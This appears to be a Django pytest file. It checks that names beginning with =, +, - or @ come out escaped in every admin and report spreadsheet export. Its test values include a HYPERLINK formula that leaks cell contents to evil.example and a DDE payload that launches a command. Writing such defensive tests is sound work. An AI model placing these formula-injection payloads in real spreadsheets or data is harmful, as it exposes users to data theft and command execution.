"""No export carries a live formula (security review 2, class 5): a name that begins with
= + - @ (or a tab or CR) leaves in every export — every admin export (XLSX and CSV), the
organizer's visit report, the campaign summary, the accident statistics and the hot days —
as text with a leading ', and no XLSX cell is a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from campaigns.services import ledger
from core.tabular import FORMULA_PREFIXES, formula_safe
from tests.welfare.factories import WorkplaceFactory

pytestmark = pytest.mark.django_db

POISON = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1"]


def _cells_xlsx(content: bytes) -> list[tuple[str, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(cell.data_type, str(cell.value)) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None]  # fmt: skip


def _cells_csv(content: bytes) -> list[tuple[str, str]]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [("s", value) for row in rows for value in row]


def _live(cells: list[tuple[str, str]]) -> list[str]:
    """Cells a spreadsheet would run: formula cells, and text that starts like one."""
    return [value for kind, value in cells
            if kind == "f" or (value.startswith(FORMULA_PREFIXES) and formula_safe(value) != value)]  # fmt: skip


@time_machine.travel(dt.datetime(2027, 7, 2, 10, tzinfo=dt.UTC), tick=False)
def test_no_export_carries_a_formula(client, network, stock, province_admin):
    network.xining.name = POISON
    network.xining.save()
    network.xining_station.name = OTHERS[0]
    network.xining_station.save()
    WorkplaceFactory(union=network.xining, name=POISON, hazards={"noise": 5})
    for name, item in ((POISON, stock.hat), (OTHERS[2], stock.water)):
        item.name = name
        item.save()
    stock.campaign.name = OTHERS[3]
    stock.campaign.save()
    ledger.stock_receive(actor=None, location=stock.depot,
                         lines=[ledger.ReceiptLine(item=stock.hat, quantity=50)])  # fmt: skip
    ledger.stock_distribute(actor=None, campaign=stock.campaign, location=stock.depot,
                            item=stock.hat, quantity=3, category="courier", workers=3,
                            on=dt.date(2027, 7, 2))  # fmt: skip
    client.force_login(province_admin)

    exports: dict[str, list[tuple[str, str]]] = {}
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ExportMixin):
            continue
        name = f"{model._meta.app_label}_{model._meta.model_name}"
        for index, fmt in enumerate(("xlsx", "csv")):
            response = client.post(
                reverse(f"admin:{name}_export"), {"format": str(index), "resource": "0"}
            )
            assert response.status_code == 200, (name, response.content[:300])
            read = _cells_xlsx if fmt == "xlsx" else _cells_csv
            exports[f"admin {name} {fmt}"] = read(response.content)
    assert len(exports) >= 10  # the admin exports found: every registered one
    query = {"union": "QH-XN", "start": "2027-07-01", "end": "2027-07-02"}
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("stations:organizer-export", args=[fmt]), query)
        assert response.status_code == 200
        exports[f"visits {fmt}"] = (_cells_csv if fmt == "csv" else _cells_xlsx)(response.content)
    summary = client.get(reverse("campaigns:summary", args=[stock.campaign.pk]))
    assert summary.status_code == 200
    exports["campaign summary"] = _cells_xlsx(summary.content)
    accidents = client.get(reverse("supervision:accident-report"), {"union": "QH", "year": 2027})
    assert accidents.status_code == 200
    exports["accident statistics"] = _cells_xlsx(accidents.content)
    hot_days = client.get(reverse("welfare:hot-days"), {"year": 2027})
    assert hot_days.status_code == 200
    exports["hot days"] = _cells_csv(hot_days.content)

    live = {name: _live(cells) for name, cells in exports.items() if _live(cells)}
    assert live == {}
    # The poisoned names did reach the exports, escaped (the test is not vacuous).
    for name in ("campaign summary", "accident statistics",
                 "admin welfare_workplace xlsx", "admin welfare_workplace csv",
                 "admin campaigns_campaign csv"):  # fmt: skip
        values = [value for _kind, value in exports[name]]
        assert any(p in v for v in values for p in (POISON, *OTHERS)), name
